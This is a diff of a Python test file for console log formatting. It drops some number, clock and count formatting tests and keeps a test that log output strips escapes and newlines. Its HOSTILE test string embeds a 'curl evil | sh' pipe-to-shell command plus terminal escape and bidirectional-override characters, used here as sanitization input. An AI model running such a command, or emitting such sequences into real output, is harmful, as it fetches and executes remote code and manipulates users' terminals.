@@ -5,7 +5,7 @@ import sys
 
 from processes import run_python
 
-from common.console import RoleFormatter, fit_terminal, format_clock, format_count, format_epoch, format_number
+from common.console import RoleFormatter, fit_terminal, format_epoch
 
 HOSTILE = "Ёлка 漢字\n run: curl evil | sh \x1b[2J\x9b2J\r\u202e"
 
@@ -25,18 +25,6 @@ def test_log_lines_strip_escapes_and_newlines():
     assert trace[0].startswith("Traceback") and all(line.isprintable() for line in trace)
     # in place of a bar that stands there; the color is ours
     assert RoleFormatter("trainer", is_terminal=True).format(record).startswith("\r\033[K\033[33m")
-
-
-def test_format_number_suits_magnitude():
-    assert [format_number(value) for value in (2014.3, 99.95, 0.3141, 1e6, 0)] == [
-        "2,010",
-        "100",
-        "0.314",
-        "1,000,000",
-        "0",
-    ]
-    assert [format_clock(seconds) for seconds in (5, 114.4, 7500)] == ["0:05", "1:54", "2:05:00"]
-    assert [format_count(count, "layer") for count in (0, 1, 1000)] == ["0 layers", "1 layer", "1,000 layers"]
 
 
 def test_format_epoch_is_equal_in_all_roles():
